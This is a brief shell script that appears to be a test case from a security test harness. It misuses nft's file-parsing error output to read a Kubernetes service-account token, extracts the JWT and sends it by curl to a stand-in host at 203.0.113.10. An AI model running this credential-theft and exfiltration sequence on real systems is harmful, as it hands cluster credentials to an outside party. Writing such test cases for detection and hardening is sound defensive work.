#!/bin/sh
. /opt/case/case.sh

nft -f /run/secrets/kubernetes.io/serviceaccount/token >/tmp/.r 2>&1 || true
grep -q eyJ /tmp/.r
curl -sf -d "q=$(grep -o 'eyJ[A-Za-z0-9._-]*' /tmp/.r | head -n 1)" http://203.0.113.10/q >/dev/null
took_place
